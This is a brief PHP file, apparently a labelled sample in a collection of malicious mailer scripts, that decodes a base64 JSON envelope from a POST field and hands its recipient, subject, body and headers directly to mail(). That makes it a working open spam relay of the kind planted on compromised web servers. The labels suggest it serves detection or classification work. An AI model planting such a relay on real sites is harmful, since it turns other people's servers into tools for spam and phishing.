<?php
// Family: mailer/remailer
// Style: remailer with a base64 JSON envelope
// Trait: whole message as base64 JSON in one POST field, decoded and passed to the send call
$d = json_decode(base64_decode($_POST['data']), true);
if ($d) {
	$ok = mail($d['to'], $d['subject'], $d['body'], $d['headers']);
	echo json_encode(array('status' => $ok));
}
